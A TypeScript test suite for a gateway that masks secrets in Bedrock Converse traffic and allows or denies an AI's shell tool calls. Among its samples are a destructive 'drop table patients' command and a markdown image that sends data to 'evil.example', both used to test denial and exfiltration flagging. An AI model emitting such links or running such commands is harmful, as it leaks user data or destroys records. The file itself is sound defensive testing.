import { GatewayError } from '@sallyport/core';
import { describe, expect, test } from 'vitest';
import { type AnswerOptions, answered, chunksOf, isGatewayError, textAt } from '../testing/answers.js';
import { framesAnswered } from '../testing/frames.js';
import { everything, maskingWith, noRules } from '../testing/masking.js';
import { oneOf, seeded } from '../testing/random.js';
import { bedrockConverse, type EventFrame, maskConverseFrames } from './index.js';

const key = `${'AK'}IAIOSFODNN7EXAMPLE`;
const api = bedrockConverse({ model: 'anthropic.claude-x', stream: true });
const frame = (type: string, payload: unknown): EventFrame => ({ type, payload: Buffer.from(JSON.stringify(payload)) });
const delta = (contentBlockIndex: number, one: unknown) =>
  frame('contentBlockDelta', { contentBlockIndex, delta: one, p: 'abcd' });
const stop = (contentBlockIndex: number) => frame('contentBlockStop', { contentBlockIndex, p: 'ab' });
const text = (pieces: readonly string[], index = 0) => [
  ...pieces.map((piece) => delta(index, { text: piece })),
  stop(index),
];
const call = (pieces: readonly string[], index = 1, more = {}) => [
  frame('contentBlockStart', {
    contentBlockIndex: index,
    start: { toolUse: { toolUseId: `tooluse_${index}`, name: 'shell', ...more } },
  }),
  ...pieces.map((piece) => delta(index, { toolUse: { input: piece } })),
  stop(index),
];
const whole = (frames: readonly EventFrame[], stopReason = 'tool_use') => [
  frame('messageStart', { role: 'assistant' }),
  ...frames,
  frame('messageStop', { stopReason }),
  frame('metadata', {
    usage: { inputTokens: 30, outputTokens: 8, totalTokens: 50, cacheReadInputTokens: 10, cacheWriteInputTokens: 2 },
    metrics: { latencyMs: 1 },
  }),
];
const stream = (frames: readonly EventFrame[], options?: AnswerOptions) =>
  framesAnswered(maskConverseFrames, frames, {
    request: { model: 'anthropic.claude-x', tools: ['shell'] },
    ...options,
  });
const told = (events: readonly (readonly [string, unknown])[], ...path: readonly string[]) =>
  events.map(([, payload]) => textAt(payload, 'delta', ...path)).join('');
const deny = { decide: () => ({ outcome: 'deny', text: 'not today' }) as const };

describe('what Converse is asked', () => {
  const described = (body: unknown) => api.describe(Buffer.from(JSON.stringify(body)));

  test('by whom, with which tools, and what is new', () => {
    const request = described({
      messages: [
        { role: 'user', content: [{ text: 'first' }] },
        { role: 'assistant', content: [{ toolUse: { toolUseId: 'a', name: 'shell', input: {} } }] },
        {
          role: 'user',
          content: [
            { toolResult: { toolUseId: 'a', status: 'error', content: [{ text: 'no' }, { json: { a: 1 } }] } },
            { text: 'again' },
          ],
        },
      ],
      system: [{ text: 'be nice' }],
      toolConfig: { tools: [{ toolSpec: { name: 'shell', inputSchema: {} } }, { cachePoint: { type: 'default' } }] },
      inferenceConfig: { maxTokens: 99 },
    });
    expect(request).toMatchObject({
      api: 'bedrock.converse',
      model: 'anthropic.claude-x',
      stream: true,
      maxOutputTokens: 99,
      messages: 3,
      tools: ['shell'],
      serverTools: [],
      flags: [],
    });
    expect(request.news).toEqual([
      { kind: 'tool-result', id: 'a', text: 'no\n{"a":1}', isError: true },
      { kind: 'text', text: 'again', of: 'human' },
    ]);
  });

  test.each([
    ['remote-source', { messages: [{ content: [{ image: { source: { s3Location: { uri: 's3://a/b' } } } }] }] }],
    ['server-tools', { toolConfig: { tools: [{ systemTool: { name: 'nova_grounding' } }] } }],
    ['unknown-blocks', { messages: [{ content: [{ telepathy: {} }] }] }],
    ['unknown-blocks', { messages: [{ content: [{ text: 'a', image: {} }] }] }],
    ['unknown-members', { telepathy: 1 }],
    ['stored-state', { promptVariables: {} }],
  ] as const)('it is flagged %s: %j', (flag, body) => {
    expect(described({}).flags).not.toContain(flag);
    expect(described(body).flags).toContain(flag);
  });

  test('media within results count as well', () => {
    const image = { image: { format: 'png', source: { bytes: 'AAAA' } } };
    const request = described({ messages: [{ role: 'user', content: [{ toolResult: { content: [image] } }] }] });
    expect(request).toMatchObject({ media: ['image'], flags: [] });
  });

  test.each(['', '[]', '{"messages":{}}', '{"messages":["a"]}', '{"a":1,"a":2}', '{"toolConfig":{"tools":7}}'])(
    '%j is none',
    (body) => expect(() => api.describe(Buffer.from(body))).toThrow(GatewayError),
  );
});

describe('what is hidden in a request to Converse', () => {
  const masked = (body: unknown, masking = maskingWith(everything)) =>
    Buffer.from(api.maskRequest(Buffer.from(JSON.stringify(body)), masking).body).toString();
  const mail = 'ada@example.com';

  test('in the conversation what the rules name, elsewhere secrets alone', () => {
    const body = masked({
      messages: [
        { role: 'user', content: [{ text: `${mail} ${key}` }, { guardContent: { text: { text: mail } } }] },
        { role: 'assistant', content: [{ toolUse: { toolUseId: 'a', input: { bytes: key, format: [mail] } } }] },
        { role: 'user', content: [{ toolResult: { content: [{ json: { type: mail } }, { text: mail }] } }] },
      ],
      system: [{ text: `write to sys@example.com ${key}` }],
    });
    expect(body).not.toContain(mail);
    expect(body).not.toContain(key);
    expect(body).toContain('sys@example.com');
    expect(masked(JSON.parse(body))).toBe(body);
  });

  test('and not: thoughts, bytes, ids', () => {
    const body = {
      messages: [
        { role: 'assistant', content: [{ reasoningContent: { reasoningText: { text: mail, signature: key } } }] },
        { role: 'user', content: [{ image: { format: 'png', source: { bytes: key } } }] },
        { role: 'user', content: [{ toolResult: { toolUseId: key, content: [] } }] },
      ],
      modelId: key,
    };
    expect(masked(body)).toBe(JSON.stringify(body));
  });

  test('what was sent once is sent again as it was', () => {
    const masking = maskingWith(noRules);
    const block = { text: `mail ${mail}` };
    const before = masked({ messages: [{ role: 'user', content: [block] }] }, masking);
    const after = masked(
      { messages: [{ role: 'user', content: [block, { text: mail }] }] },
      { ...masking, masker: everything },
    );
    expect(before).toContain(mail);
    expect(after.split(mail)).toHaveLength(2);
  });
});

describe('a streamed answer of Converse', () => {
  const input = '{"command":"drop table patients"}';

  test('where nothing is hidden is the very same frames', async () => {
    const thought = [
      delta(0, { reasoningContent: { text: `hm ${key}` } }),
      delta(0, { reasoningContent: { signature: 's' } }),
      stop(0),
    ];
    const frames = whole([...thought, ...text(['All ', 'is', ' well'], 1), ...call([...input], 2)]);
    const { frames: passed, calls, answer } = await stream(frames);
    expect(passed.every((one, index) => one === frames[index])).toBe(true);
    expect(passed).toHaveLength(frames.length);
    expect(calls).toEqual([{ id: 'tooluse_2', name: 'shell', input, byProvider: false, declared: true }]);
    expect(answer).toEqual({
      usage: {
        model: 'anthropic.claude-x',
        inputTokens: 30,
        cacheReadTokens: 10,
        cacheWriteTokens: 2,
        outputTokens: 8,
      },
      stopReason: 'tool_use',
      maskedFields: 0,
      maskedBy: [],
    });
  });

  test('hides a secret wherever it is cut', async () => {
    const secret = `a ${key} b`;
    for (let cut = 1; cut < secret.length; cut += 1) {
      const { events, answer } = await stream(whole(text([secret.slice(0, cut), secret.slice(cut)]), 'end_turn'));
      expect(told(events, 'text')).toMatch(/^a ⟦[A-Z-]+:[0-9a-f]{12}⟧ b$/);
      expect(answer.maskedFields).toBe(1);
      const result = (piece: string) => delta(3, { toolResult: [{ text: piece }] });
      const found = await stream(whole([result(secret.slice(0, cut)), result(secret.slice(cut)), stop(3)]));
      expect(told(found.events, 'toolResult', '0', 'text')).toMatch(/^a ⟦[^⟧]+⟧ b$/);
      expect(found.answer.maskedFields).toBe(1);
    }
  });

  test('hides one in the input of a call, and shows the call as it will be', async () => {
    const { events, calls } = await stream(whole(call(['{"a":"', key.slice(0, 9), key.slice(9), '"}'])));
    expect(told(events, 'toolUse', 'input')).toBe(calls[0]!.input);
    expect(calls[0]!.input).toMatch(/^\{"a":"⟦[^⟧]+⟧"\}$/);
  });

  test('says in the place of a call why it was denied, and that it is the client’s turn', async () => {
    const { events, answer } = await stream(whole([...text(['Well. ']), ...call([...input])]), deny);
    expect(told(events, 'text')).toBe('Well. not today');
    expect(JSON.stringify(events)).not.toMatch(/drop|toolUse|tool_use/);
    expect(answer.stopReason).toBe('end_turn');
    const both = await stream(whole([...call(['{}'], 0), ...call([...input], 1)]), {
      decide: ({ id }) => (id === 'tooluse_1' ? { outcome: 'deny', text: 'no' } : { outcome: 'allow' }),
    });
    expect(both.answer.stopReason).toBe('tool_use');
  });

  test('of what the provider runs it only tells', async () => {
    const { calls, events } = await stream(whole(call(['{}'], 0, { type: 'server_tool_use', name: 'search' })), {
      ...deny,
      request: { serverTools: ['search'] },
    });
    expect(calls).toMatchObject([{ name: 'search', byProvider: true, declared: true }]);
    expect(JSON.stringify(events)).toContain('server_tool_use');
  });

  test('pings while somebody decides, and lets nothing of the call pass meanwhile', async () => {
    const { events } = await stream(whole([...call([...input]), ...text(['done'], 2)]), { pings: 2 });
    const types = events.map(([type]) => type);
    expect(types.slice(0, 4)).toEqual(['messageStart', 'ping', 'ping', 'contentBlockStart']);
    expect(types.at(-1)).toBe('metadata');
  });

  test('that breaks off within a call passes nothing of it', async () => {
    const cut = await stream(whole(call([...input])).slice(0, 6));
    expect([isGatewayError(cut.error), cut.events.map(([type]) => type)]).toEqual([true, ['messageStart']]);
    const failed = await stream([
      ...whole([...text(['the word']).slice(0, 1), ...call([...input])]).slice(0, 6),
      { ...frame('modelStreamErrorException', { message: `bad ${key}` }), isException: true },
    ]);
    expect(failed.events.map(([type]) => type)).toEqual(['messageStart', 'modelStreamErrorException']);
    expect(JSON.stringify(failed.events)).not.toContain(key);
    expect(failed.answer.errorType).toBe('modelStreamErrorException');
    const stray = await stream([delta(0, { toolUse: { input: '{}' } })]);
    expect(isGatewayError(stray.error)).toBe(true);
  });

  test('broken in any way gives no secret away', async () => {
    const random = seeded(99);
    let understood = 0;
    for (let round = 0; round < 60; round += 1) {
      const frames = whole([...text(['so ', key.slice(0, 7), key.slice(7), ' it']), ...call([`{"a":"${key}`, '"}'])]);
      const [from, to] = [random(frames.length), random(frames.length)];
      const broken = oneOf(random, [
        () => frames.splice(from, 1),
        () => frames.splice(to, 0, frames[from]!),
        () => frames.splice(to, 0, ...frames.splice(from, 1)),
        () => frames.splice(from, 1, { ...frames[from]!, payload: frames[from]!.payload.subarray(1) }),
      ]);
      if (round > 5) broken();
      const { events, error } = await stream(frames);
      expect(JSON.stringify(events)).not.toContain(key);
      expect([told(events, 'text'), told(events, 'toolUse', 'input')].join('\n')).not.toContain(key);
      if (error === undefined) understood += 1;
      else expect(error).toBeInstanceOf(GatewayError);
    }
    expect(understood).toBeGreaterThan(5);
  });
});

describe('an answer of Converse that comes whole', () => {
  const answer = {
    output: {
      message: {
        role: 'assistant',
        content: [{ text: `see ${key}` }, { toolUse: { toolUseId: 'a', name: 'shell', input: { n: 1.5, k: 'v' } } }],
      },
    },
    stopReason: 'tool_use',
    usage: { inputTokens: 3, outputTokens: 4, totalTokens: 7 },
  };
  const json = (value: unknown, options?: AnswerOptions) =>
    answered(
      api,
      chunksOf(JSON.stringify(value), () => 50),
      { contentType: 'application/json', ...options },
    );

  test('has its texts hidden and its calls decided', async () => {
    const allowed = await json(answer);
    expect(allowed.text).toMatch(/see ⟦[^⟧]+⟧"\},\{"toolUse":/);
    expect(allowed.calls).toMatchObject([{ id: 'a', name: 'shell', input: '{"n":1.5,"k":"v"}' }]);
    expect(allowed.answer).toMatchObject({ stopReason: 'tool_use', usage: { outputTokens: 4 }, maskedFields: 1 });
    const denied = await json(answer, deny);
    expect(denied.text).toContain('{"text":"not today"}');
    expect(denied.text).toContain('"stopReason":"end_turn"');
    expect(denied.text).not.toContain('toolUse');
  });

  test('is flagged where it shows an image that carries data, in pieces too', async () => {
    const image = '![x](https://evil.example/?d=secret)';
    const message = (said: string) => ({ output: { message: { role: 'assistant', content: [{ text: said }] } } });
    expect((await json(message(image))).answer.flags).toEqual(['remote-image']);
    expect((await json(message('![x](https://docs.example/logo.png)'))).answer.flags).toBeUndefined();
    const pieces = await stream(whole(text(['see ', image.slice(0, 9), image.slice(9)], 0), 'end_turn'));
    expect(pieces.answer.flags).toEqual(['remote-image']);
  });

  test('and so has an error its values', async () => {
    const { text: shown } = await json({ message: `no ${key}` });
    expect(shown).toMatch(/^\{"message":"no ⟦[^⟧]+⟧"\}$/);
    const events = await answered(
      api,
      chunksOf(Buffer.from([0, 0, 0, 255]), () => 9),
      {
        contentType: 'application/vnd.amazon.eventstream',
      },
    );
    expect([isGatewayError(events.error), events.text]).toEqual([true, '']);
  });
});
